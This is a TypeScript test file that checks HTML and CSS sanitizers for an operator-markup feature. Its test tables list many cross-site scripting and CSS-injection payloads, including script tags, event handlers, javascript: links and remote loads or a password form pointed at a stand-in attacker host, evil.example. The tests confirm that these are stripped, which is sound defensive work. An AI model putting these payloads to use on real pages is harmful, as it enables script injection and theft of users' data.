import { HOSTILE_MARKUP } from '@syllaboom/engine/testing';
import { describe, expect, it } from 'vitest';
import { cleanCss } from './clean-css.ts';
import { cleanHtml } from './clean-html.ts';

const PIXEL = 'data:image/png;base64,iVBORw0KGgo=';

describe('the operator’s markup', () => {
  it('keeps text, structure, links and pictures within the page', () => {
    const page = `<h1 class="big" id="top">News</h1><p lang="en">Read <a href="#top">more</a></p><ul><li>one</li></ul><table><tr><th scope="col">a</th></tr></table><img src="${PIXEL}" alt="dot" />`;
    expect(cleanHtml(page)).toBe(page);
  });

  it('opens links elsewhere, which learn nothing of the game', () => {
    expect(cleanHtml('<a href="https://example.org/x">x</a>')).toBe(
      '<a href="https://example.org/x" target="_blank" rel="noopener noreferrer nofollow">x</a>',
    );
  });

  it.each([
    '<script>alert(1)</script>',
    '<ScRiPt src=//evil.example/x.js></sCrIpT>',
    '<scr<script>ipt>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    `<img src="${PIXEL}" onload="alert(1)">`,
    '<img src="https://evil.example/pixel.png">',
    '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">',
    '<svg onload=alert(1)><script>alert(1)</script></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<iframe src="javascript:alert(1)"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="x"></object><embed src="x"><applet code="x"></applet>',
    '<form action="https://evil.example"><input name="password"><button formaction="javascript:alert(1)">go</button></form>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jAvA\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="//evil.example">x</a>',
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<style>@import "https://evil.example/x.css"</style>',
    '<div style="background:url(https://evil.example)">x</div>',
    '<template><script>alert(1)</script></template>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<video src="https://evil.example" autoplay onplay=alert(1)></video>',
    '<p onclick="alert(1)" onmouseover=alert(1)>x</p>',
    '<details open ontoggle=alert(1)>x</details>',
    '<!--><img src=x onerror=alert(1)>-->',
    ...HOSTILE_MARKUP,
  ])('23 loses what acts, loads or asks: %s', (hostile) => {
    const clean = cleanHtml(hostile);
    expect(clean).not.toMatch(
      /<(?:script|style|svg|math|iframe|object|embed|applet|form|input|button|base|meta|link|template|noscript|video)/i,
    );
    expect(clean.match(/<[^>]*>/g)?.join('') ?? '').not.toMatch(
      /\son\w+\s*=|style\s*=|javascript:|evil\.example|data:text|svg\+xml/i,
    );
  });

  it('cleans to what stays the same when it is cleaned again', () => {
    const once = cleanHtml('<p>a & b &lt;script&gt; <b>bold</p><a href=https://example.org>x');
    expect(cleanHtml(once)).toBe(once);
    expect(once).toContain('&lt;script&gt;');
  });
});

describe('the operator’s style', () => {
  it('keeps what only looks', () => {
    expect(
      cleanCss('.a > li:is(.b, #c)::before { content: "x"; color: var(--accent, #fff); width: calc(1px + 2%) }'),
    ).toBe('.a>li:is(.b,#c)::before{content:"x";color:var(--accent,#fff);width:calc(1px + 2%)}');
    const movement =
      '@media (prefers-reduced-motion:no-preference){.a{animation:spin 2s}}@keyframes spin{to{rotate:1turn}}';
    expect(cleanCss(movement)).toBe(movement);
    expect(cleanCss(':root{--gap:4px}')).toBe(':root{--gap:4px}');
    expect(cleanCss(`.a{background:url(${PIXEL})}`)).toContain(PIXEL);
  });

  it.each([
    '@import "https://evil.example/x.css";',
    '@import url(//evil.example/x.css);',
    '@\\69mport "https://evil.example/x.css";',
    '@font-face { font-family: x; src: url(https://evil.example/x.woff2) }',
    '@namespace url(https://evil.example);',
    '.a { background: url(https://evil.example/x.png) }',
    '.a { background: url("//evil.example/x.png") }',
    '.a { background: u\\72l(https://evil.example/x.png) }',
    '.a { background: image-set("https://evil.example/x.png" 1x) }',
    '.a { background: -webkit-image-set(url(https://evil.example/x.png) 1x) }',
    '.a { background: cross-fade(url(https://evil.example/x.png), red) }',
    '.a { --x: url(https://evil.example/x.png); background: var(--x) }',
    '.a { list-style: url(data:image/svg+xml,%3Csvg%3E) }',
    '.a { cursor: url(https://evil.example/x.cur), auto }',
    '.a { behavior: url(#default#time2) }',
    '.a { -moz-binding: url(https://evil.example/x.xml#x) }',
    '.a { width: expression(alert(1)) }',
    '.a { background: url(javascript:alert(1)) }',
    '@media screen { @import "https://evil.example/x.css"; .a { background: url(https://evil.example/x) } }',
    '.a { color: red; background: url(https://evil.example/x.png',
    '.a { .b { background: url(https://evil.example/x.png) } }',
    '@supports (background: url(https://evil.example/x.png)) { .a { color: red } }',
    '.a[href^="x"] { color: red } <style> @import "https://evil.example"; ',
  ])('23 loses what loads or runs: %s', (hostile) => {
    expect(cleanCss(hostile)).not.toMatch(/evil\.example|import|font-face|expression|behavior|binding|javascript|svg/i);
  });

  it('cannot end the element that it is put into', () => {
    const clean = cleanCss('.a::before { content: "</style><script>alert(1)</script><!--" }');
    expect(clean).not.toMatch(/<[/!]/);
    expect(clean).toContain('content:');
  });

  it('is nothing where nothing can be read', () => {
    expect(cleanCss('}}}} <<<< {{{{ \0 @@@ "')).not.toMatch(/[<@]/);
  });
});
